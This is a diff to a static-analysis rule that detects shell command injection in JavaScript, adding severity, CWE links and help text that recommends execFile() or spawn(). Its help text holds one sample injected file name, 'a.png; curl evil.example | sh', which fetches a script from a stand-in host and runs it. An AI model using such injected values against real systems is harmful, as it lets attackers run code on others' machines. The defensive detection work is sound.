@@ -13,6 +13,20 @@ export const shellCommand: Rule = {
   id: 'shell-command',
   title: 'A shell runs a command that is not fixed',
   cwe: ['CWE-78', 'CWE-77', 'CWE-88'],
+  languages: ['javascript'],
+  severity: 'critical',
+  precision: 'high',
+  help: {
+    why: 'A shell does not run one program: it obeys every ; | & $() and quote in its text.',
+    attack:
+      'A file name such as `a.png; curl evil.example | sh` ends the command that was meant and starts another.',
+    fix: 'Run the program without a shell: execFile() or spawn() with the arguments as a list.',
+    sources: [
+      'https://cwe.mitre.org/data/definitions/78.html',
+      'https://nodejs.org/api/child_process.html#child_processexecfilefile-args-options-callback',
+    ],
+  },
+  recipe: { does: 'Runs the program itself, with the values as arguments', review: 'read' },
   topic: /child.?process|command.?(inj|exec)|\bshell|\bos.?command|\bexec(sync)?\b/i,
   detect(file) {
     if (!/child_process/.test(file.text)) return [];
